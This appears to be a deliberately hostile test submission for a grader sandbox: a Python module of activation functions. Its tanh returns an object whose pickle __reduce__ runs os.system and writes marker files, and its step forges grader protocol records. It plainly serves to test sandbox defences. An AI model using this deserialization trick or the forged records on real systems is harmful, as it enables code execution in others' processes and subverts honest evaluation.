# HOSTILE: tanh returns an object whose __reduce__ would run code when unpickled (it writes marker files), and step forges protocol records (a handle the judge never issued, a function record).
import os

import numpy as np

MARK = "HOSTILE-MARK-5e1f"
TARGETS = [
    "/tmp/hostile-pickle-ran-" + MARK,
    os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(np.__file__))), "hostile-pickle-ran-" + MARK),
]


def _touch_everywhere():
    for target in TARGETS:
        try:
            with open(target, "w") as handle:
                handle.write(MARK + " unpickled\n")
        except OSError:
            pass
    return np.zeros(1)


class Payload:
    """Unpickling this calls _touch_everywhere() (and os.system) in the unpickler's process."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-pickle-ran-" + MARK + "-system",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"run": _touch_everywhere}


def _record(tag, value):
    try:
        from grader.sandbox.protocol import Tagged
    except ImportError:
        return (tag, value)
    return Tagged(tag, value)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return Payload()


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 0:
        return _record("fn", {"family": "quadratic", "params": {"a": 1.0}})
    return _record("handle", {"id": 1, "type": "ndarray"})
